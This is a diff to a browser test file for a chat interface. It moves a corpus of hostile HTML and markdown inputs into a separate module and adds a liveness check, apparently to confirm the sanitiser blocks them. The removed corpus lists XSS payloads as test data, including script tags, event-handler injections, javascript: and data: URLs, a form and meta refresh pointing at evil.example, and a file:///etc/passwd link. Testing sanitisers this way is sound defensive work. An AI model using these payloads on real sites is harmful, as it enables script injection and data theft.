@@ -6,33 +6,10 @@ from functools import partial
 
 import pytest
 
+from greenroom.tests.browser.hostile_texts import CORPUS
 from greenroom.tests.browser.page import Page
 from greenroom.tests.browser.stand_in import STATUS, standing_in, text_events
 
-_RUN = "window.pwned=1"
-CORPUS = {
-    "script": f"<script>{_RUN}</script> <SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
-    "handlers": f'<img src=x onerror="{_RUN}"> <svg onload={_RUN}> <body onload={_RUN}>'
-    f"<details ontoggle={_RUN} open>",
-    "frames": f'<iframe src="javascript:{_RUN}"></iframe><object data="https://evil.example"></object>',
-    "links": f"[a](javascript:{_RUN}) [b](JaVaScRiPt:{_RUN}) [c](data:text/html,<script>{_RUN}</script>) "
-    f"[d](vbscript:x) [e](//evil.example) [f](\tjavascript:{_RUN}) [g](/admin/models) [h](file:///etc/passwd)",
-    "good links": "[a](https://example.org/) [b](mailto:a@example.org) https://example.org/raw",
-    "images": "![x](https://evil.example/pixel.png) ![y](//evil.example/p.png) "
-    "![z](data:image/svg+xml,<svg/onload=1>)",
-    "image in link": "[![x](https://evil.example/pixel.png)](https://evil.example/)",
-    "styles": "<style>@import 'https://evil.example/x.css'; body {display: none}</style>"
-    "<link rel=stylesheet href=//evil.example>",
-    "forms": '<form action="https://evil.example"><input name=key><button>Go</button></form>'
-    '<base href="//evil.example">',
-    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    "attributes": f'[x](https://example.org/"onmouseover="{_RUN}) ```"><script>{_RUN}</script>\ncode\n```',
-    "table": "|" + "a|" * 300 + "\n|" + "-|" * 300 + ("\n|" + "b|" * 300) * 20,
-    "deep quotes": ">" * 3_000 + " deep\n\n" + "- " * 3_000 + "deep",
-    "stars": "*" * 5_000 + "_" * 5_000 + "`" * 5_001 + "[" * 5_000,
-    "bidi": "abc \u202e live \u2066 \u2069 \u200b\u200d\ufeff z\u0361a\u0353l\u0332g\u0321o 😀 \u0000 \ufffd",
-    "prototype": "__proto__ constructor toString ${alert(1)} {{7*7}} <%= 1 %>",
-}
 MARK = "The end of the answer."
 
 
@@ -59,6 +36,10 @@ def test_no_answer_runs_or_fetches_anything(page: Page, name: str) -> None:
         assert len(links) >= 4 or name != "good links"
         page.wait(lambda: page.run("return document.readyState") == "complete")
         assert page.offences() == []
+        # The page is alive: it takes another message.
+        server.answer = lambda: text_events(["Alive"])
+        page.ask("Still there?")
+        assert page.answer(2) == "Alive"
 
 
 def test_ten_megabytes_in_a_line_leave_the_page_alive(page: Page) -> None:
